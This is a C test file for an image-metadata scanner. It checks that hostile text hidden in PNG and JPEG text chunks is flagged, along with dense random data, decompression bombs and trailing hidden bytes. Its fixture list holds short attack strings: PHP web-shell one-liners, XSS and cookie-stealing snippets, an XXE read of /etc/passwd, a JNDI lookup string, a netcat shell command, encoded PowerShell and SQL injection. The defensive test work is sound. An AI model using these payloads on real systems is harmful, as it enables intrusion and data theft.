// Texts: what acts is found wherever windows are cut, what people write is left alone, and density is judged.
#include <zlib.h>

#include "scan_rig.h"
#include "text_scan.h"

static const char *const hostile[] = {
    "x<?php system($_GET[0]); ?>",
    "a <?= `id` ?>",
    "<ScRiPt>alert(1)</script>",
    "<script src=//evil>",
    "<iframe src=x>",
    "<svg/onload=alert(1)>",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "<!--#exec cmd=\"ls\"-->",
    "<%@ page import=\"java.io.*\" %>",
    "click javascript:alert(1)",
    "javascript:",
    "vbscript:msgbox",
    "data:text/html;base64,xxxx",
    "<img src=x onerror=alert(1)>",
    "<body onload=go()>",
    "@eval($_POST['x']);",
    "base64_decode('aaaa')",
    "shell_exec('id')",
    "passthru($c)",
    "system(\"id\")",
    "system($x)",
    "new Image().src=document.cookie",
    "#!/bin/bash",
    "#!/usr/bin/env python",
    "nc -e /bin/sh -c",
    "cmd.exe /c calc",
    "powershell -enc AAAA",
    "C:\\powershell.exe",
    "${jndi:ldap://evil/a}",
    "' UNION SELECT NULL,NULL--",
    "1 union all select password from users",
    "'; DROP TABLE users",
};

static const char *const harmless[] = {
    "A walk in the medieval(ish) town, retrieval(2019)",
    "JavaScript: The Good Parts, cover",
    "Coordinate system (metric), number system(s)",
    "European Union Select Committee, 2014",
    "The union select the best picture",
    "download=1 reonload= 3",
    "PowerShell in Action, 3rd edition; cmd.exe window",
    "#!/ is called a shebang",
    "3 < 4 and <scripture> is no tag, <svgs",
    "Price: ${amount}",
    "Table; drop tables off at the store",
    "<?xpacket begin=\"\xef\xbb\xbf\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"Adobe "
    "XMP Core 5.6-c140\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description "
    "rdf:about=\"\" xmlns:xmp=\"http://ns.adobe.com/xap/1.0/\" xmp:CreatorTool=\"Adobe Photoshop CC 2019 (Macintosh)\" "
    "xmlns:stEvt=\"http://ns.adobe.com/xap/1.0/sType/ResourceEvent#\"/></rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>",
    "Created with GIMP",
    "CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 90\n",
    "Evaluation (1): system administrator; scripts < 5",
};

static void push_in_steps(struct inspect_text_scan *scan, const char *text, size_t bytes, size_t step) {
  for (size_t at = 0; at < bytes; at += step) {
    inspect_text_scan_push(scan, base_span_slice(base_span_of(text, bytes), at, step));
  }
}

static void what_acts_is_found_wherever_it_is_cut(void **state) {
  (void)state;
  for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
    char text[1600];
    // Across the border of a slice, too.
    for (size_t before = 400; before < 520; before += 7) {
      memset(text, 'a', before);
      text[before - 1] = ' ';
      strcpy(text + before, hostile[i]);
      const size_t bytes = strlen(text);
      for (size_t step = 1; step < 40; step += 3) {
        struct inspect_text_scan scan = {0};
        struct scan_rig rig;
        scan_rig_init(&rig, text, bytes);
        push_in_steps(&scan, text, bytes, step);
        inspect_text_scan_conclude(&scan, &rig.walk, rig.walk.file, true, "tEXt");
        if (rig.report.rule_counts[IMAGE_RULE_TEXT] == 0) fail_msg("missed: %s", hostile[i]);
      }
    }
  }
}

static void what_people_write_is_left_alone(void **state) {
  (void)state;
  for (size_t i = 0; i < sizeof harmless / sizeof *harmless; i++) {
    struct scan_rig rig;
    scan_rig_init(&rig, harmless[i], strlen(harmless[i]));
    inspect_text(&rig.walk, rig.walk.file, "tEXt");
    if (scan_rig_findings(&rig)) fail_msg("%s: %s", harmless[i], rig.report.findings[0].text);
    assert_int_equal(rig.report.text_bytes, strlen(harmless[i]));
  }
}

static void place_of_a_pattern_is_told(void **state) {
  (void)state;
  static char file[5000];
  struct scan_rig rig;
  memset(file, ' ', sizeof file);
  memcpy(file + 3210, "<?php", 5);
  scan_rig_init(&rig, file, sizeof file);
  inspect_text(&rig.walk, base_span_slice(rig.walk.file, 1000, 3000), "COM");
  assert_int_equal(rig.report.finding_count, 1);
  const struct image_finding *finding = &rig.report.findings[0];
  assert_int_equal(finding->rule, IMAGE_RULE_TEXT);
  assert_int_equal(finding->offset, 3210);
  assert_int_equal(finding->bytes, 5);
  assert_string_equal(finding->place, "COM");
  assert_string_equal(finding->text, "a text says <?php");
  assert_int_equal(rig.report.text_bytes, 3000);
}

static void text_of_two_byte_characters_reads_the_same(void **state) {
  (void)state;
  const char *text = "<script>";
  uint8_t wide[32];
  struct scan_rig rig;
  for (size_t i = 0; i < strlen(text); i++) {
    wide[2 * i] = (uint8_t)text[i];
    wide[2 * i + 1] = 0;
  }
  scan_rig_init(&rig, wide, 2 * strlen(text));
  inspect_text(&rig.walk, rig.walk.file, "APP1");
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_TEXT], 1);
}

static uint32_t dense_findings(const uint8_t *data, size_t bytes) {
  struct scan_rig rig;
  scan_rig_init(&rig, data, bytes);
  inspect_text(&rig.walk, rig.walk.file, "tEXt");
  return rig.report.rule_counts[IMAGE_RULE_TEXT_ENTROPY];
}

static void random_bytes_are_dense_from_2048_on(void **state) {
  (void)state;
  static uint8_t data[65536];
  for (uint64_t seed = 1; seed <= 50; seed++) {
    scan_rig_random(data, sizeof data, seed);
    assert_int_equal(dense_findings(data, 2048), 1);
    assert_int_equal(dense_findings(data, 5000), 1);
    assert_int_equal(dense_findings(data, sizeof data), 1);
    assert_int_equal(dense_findings(data, 2047), 0);
  }
}

static void words_and_base64_are_not_dense(void **state) {
  (void)state;
  static uint8_t data[65536];
  static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  scan_rig_random(data, sizeof data, 7);
  for (size_t i = 0; i < sizeof data; i++) data[i] = (uint8_t)digits[data[i] % 64];
  assert_int_equal(dense_findings(data, sizeof data), 0);
}

static void dense_stretch_inside_words_is_found_where_it_lies(void **state) {
  (void)state;
  static uint8_t data[65536];
  struct scan_rig rig;
  memset(data, 'w', sizeof data);
  scan_rig_random(data + 20000, 8192, 3);
  scan_rig_init(&rig, data, sizeof data);
  inspect_text(&rig.walk, rig.walk.file, "iTXt");
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_TEXT_ENTROPY], 1);
  assert_in_range(rig.report.findings[0].offset, 20000 - 4096, 20000 + 8192 - 4096);
  assert_int_equal(rig.report.findings[0].bytes, 4096);
}

static void text_that_is_too_long_is_a_finding(void **state) {
  (void)state;
  uint8_t *data = malloc(INSPECT_MAX_TEXT + 1);
  struct scan_rig rig;
  memset(data, 'a', INSPECT_MAX_TEXT + 1);
  scan_rig_init(&rig, data, INSPECT_MAX_TEXT + 1);
  inspect_text(&rig.walk, base_span_slice(rig.walk.file, 0, INSPECT_MAX_TEXT), "iTXt");
  assert_int_equal(scan_rig_findings(&rig), 0);
  inspect_text(&rig.walk, rig.walk.file, "iTXt");
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_CHUNK_SIZE], 1);
  free(data);
}

static void inspect_compressed(struct scan_rig *rig, const uint8_t *text, size_t bytes, size_t cut, size_t more) {
  static uint8_t packed[2 << 20];
  uLongf packed_bytes = sizeof packed;
  assert_int_equal(compress2(packed, &packed_bytes, text, bytes, 9), Z_OK);
  memset(packed + packed_bytes, 'h', more);
  scan_rig_init(rig, packed, packed_bytes - cut + more);
  inspect_text_deflated(&rig->walk, rig->walk.file, "zTXt");
}

static void compressed_text_is_read_as_it_inflates(void **state) {
  (void)state;
  static uint8_t text[100000];
  struct scan_rig rig;
  for (size_t i = 0; i < sizeof text; i++) text[i] = (uint8_t)("The quick brown fox "[i % 20] + (i / 977) % 2);
  inspect_compressed(&rig, text, sizeof text, 0, 0);
  assert_int_equal(rig.report.text_bytes, sizeof text);
  // Of 100,000 bytes that repeat: a bomb by the ratio, but no text and no damage.
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_TEXT], 0);
  for (size_t at = 2040; at < 2056; at++) {
    scan_rig_random(text, 3000, at);
    for (size_t i = 0; i < 3000; i++) text[i] = (uint8_t)('a' + text[i] % 16);
    memcpy(text + at, " <?php ", 7);
    inspect_compressed(&rig, text, 3000, 0, 0);
    assert_int_equal(rig.report.rule_counts[IMAGE_RULE_TEXT], 1);
    assert_int_equal(scan_rig_findings(&rig), 1);
    assert_int_equal(rig.report.findings[0].offset, 0);
  }
}

static void compressed_text_that_is_damaged_or_cut_is_a_finding(void **state) {
  (void)state;
  static uint8_t text[3000];
  struct scan_rig rig;
  scan_rig_random(text, sizeof text, 5);
  for (size_t i = 0; i < sizeof text; i++) text[i] = (uint8_t)('a' + text[i] % 16);
  for (size_t cut = 1; cut < 1000; cut += 99) {
    inspect_compressed(&rig, text, sizeof text, cut, 0);
    assert_int_equal(rig.report.rule_counts[IMAGE_RULE_STRUCTURE], 1);
  }
  scan_rig_init(&rig, "no zlib stream", 14);
  inspect_text_deflated(&rig.walk, rig.walk.file, "zTXt");
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_STRUCTURE], 1);
  scan_rig_init(&rig, "", 0);
  inspect_text_deflated(&rig.walk, rig.walk.file, "zTXt");
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_STRUCTURE], 1);
}

static void compressed_bomb_is_stopped_early(void **state) {
  (void)state;
  const size_t bytes = 64 << 20;
  uint8_t *zeros = calloc(1, bytes);
  struct scan_rig rig;
  inspect_compressed(&rig, zeros, bytes, 0, 0);
  free(zeros);
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_EXPANSION], 1);
  assert_true(rig.report.text_bytes <= 1 << 17);
}

static void compressed_text_over_the_limit_is_stopped_there(void **state) {
  (void)state;
  const size_t bytes = 3 << 20;
  uint8_t *text = malloc(bytes);
  struct scan_rig rig;
  scan_rig_random(text, bytes, 11);
  for (size_t i = 0; i < bytes; i++) text[i] = (uint8_t)('a' + text[i] % 4);
  inspect_compressed(&rig, text, bytes, 0, 0);
  free(text);
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_CHUNK_SIZE], 1);
  assert_int_equal(scan_rig_findings(&rig), 1);
  assert_in_range(rig.report.text_bytes, INSPECT_MAX_TEXT, INSPECT_MAX_TEXT + INSPECT_TEXT_WINDOW);
}

static void bytes_behind_a_compressed_text_are_hidden_data(void **state) {
  (void)state;
  static uint8_t text[3000];
  struct scan_rig rig;
  scan_rig_random(text, sizeof text, 5);
  inspect_compressed(&rig, text, 1000, 0, 100);
  assert_int_equal(rig.report.rule_counts[IMAGE_RULE_HIDDEN], 1);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(what_acts_is_found_wherever_it_is_cut),
      cmocka_unit_test(what_people_write_is_left_alone),
      cmocka_unit_test(place_of_a_pattern_is_told),
      cmocka_unit_test(text_of_two_byte_characters_reads_the_same),
      cmocka_unit_test(random_bytes_are_dense_from_2048_on),
      cmocka_unit_test(words_and_base64_are_not_dense),
      cmocka_unit_test(dense_stretch_inside_words_is_found_where_it_lies),
      cmocka_unit_test(text_that_is_too_long_is_a_finding),
      cmocka_unit_test(compressed_text_is_read_as_it_inflates),
      cmocka_unit_test(compressed_text_that_is_damaged_or_cut_is_a_finding),
      cmocka_unit_test(compressed_bomb_is_stopped_early),
      cmocka_unit_test(compressed_text_over_the_limit_is_stopped_there),
      cmocka_unit_test(bytes_behind_a_compressed_text_are_hidden_data),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
